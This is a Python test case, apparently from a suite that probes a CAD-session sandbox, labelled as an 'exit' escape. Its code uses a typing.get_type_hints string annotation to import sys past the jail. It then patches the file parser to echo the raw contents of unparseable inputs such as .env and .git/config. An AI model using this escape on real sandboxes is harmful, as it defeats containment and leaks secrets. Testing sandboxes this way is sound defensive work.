# id: ex04-input-dot-files
# category: exit
# effect: patch the jail's file parser to echo what it cannot parse, then the driver imports .env, .git/config, notes.txt and a STEP file in a dot directory (with and without format=), and malformed CAD files into an honest session
# touches_os: no
# destructive: no
# fast: no
# then: inputs
import typing
class Real:
    s: "__import__('sys')"
try:
    readers = typing.get_type_hints(Real, {})["s"].modules["jail.cad.readers"]
    parse = readers.load
    def echo(data, fmt):  # what the session is handed: parsed if it can be, else shown
        try:
            return parse(data, fmt)
        except Exception:
            raise ValueError("ECHO " + bytes(data[:1500]).decode("latin-1"))
    readers.load = echo
    print("ESCAPE-RESULT: parser=patched")
except Exception:
    print("ESCAPE-RESULT: parser=not-patched")
